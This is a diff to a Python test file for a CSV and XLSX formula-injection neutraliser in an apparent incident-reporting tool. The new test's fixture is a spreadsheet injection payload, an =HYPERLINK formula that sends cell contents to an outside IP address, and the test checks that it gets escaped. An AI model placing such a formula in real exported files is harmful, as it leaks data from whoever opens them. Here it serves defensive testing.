@@ -292,7 +292,7 @@ def test_audit_and_history_csv_neutralise_uids_and_reasons():
 
 @pytest.mark.parametrize("text, neutralised", [
     ("=1+1", True), ("\x01=HYPERLINK(1)", True), (" =1", True), ("\u200f-3 killed", True), ("\t@x", True),
-    ("-", True), ("3 killed", False), ("Hajin", False), ("'=x", False), ("a=b", False), ("", False),
+    ("-", True), ("3 killed", False), ("Hajin", False), ("'=x", True), ("'Ali", True), ("a=b", False), ("", False),
 ])
 def test_which_text_is_neutralised(text, neutralised):
     assert (neutralise(text) != text) == neutralised
@@ -302,8 +302,7 @@ def test_which_text_is_neutralised(text, neutralised):
 def test_neutralised_text_never_reads_as_a_formula_and_reads_back(text):
     written = neutralise(text)
     assert not written.startswith(("=", "+", "-", "@")) and not looks_like_formula(written)
-    if not text.startswith("'"):
-        assert unneutralise(written) == text
+    assert unneutralise(written) == text  # a leading apostrophe that was in the text is kept (it was dropped)
 
 
 def test_the_round_trip_keeps_hostile_text_exactly(sqlite_store, incident_factory):
@@ -312,3 +311,17 @@ def test_the_round_trip_keeps_hostile_text_exactly(sqlite_store, incident_factor
     back = read_incidents(export_incidents(sqlite_store.list_incidents(), "csv"), "x.csv").valid[0]
     assert back.claims[0].quote == "\u200f-3 قتلى"
 
+
+
+def test_a_file_header_written_back_in_rejected_rows_is_neutralised():
+    """The rejected-rows CSV repeats the uploaded file's own header: a column named like a formula must not run
+    when the researcher opens that file (the audit reproduced it with =HYPERLINK)."""
+    from incidents.io.tables import write_csv, write_xlsx
+
+    hostile = '=HYPERLINK("http://198.51.100.7/?"&A2,"open")'
+    header = next(csv.reader(io.StringIO(write_csv(["place", hostile], [{"place": "Hajin"}]).decode("utf-8-sig"))))
+    assert header == ["place", "'" + hostile]
+    from openpyxl import load_workbook
+
+    sheet = load_workbook(io.BytesIO(write_xlsx({"rows": (["place", hostile], [{"place": "Hajin"}])}))).active
+    assert [c.value for c in sheet[1]] == ["place", "'" + hostile]
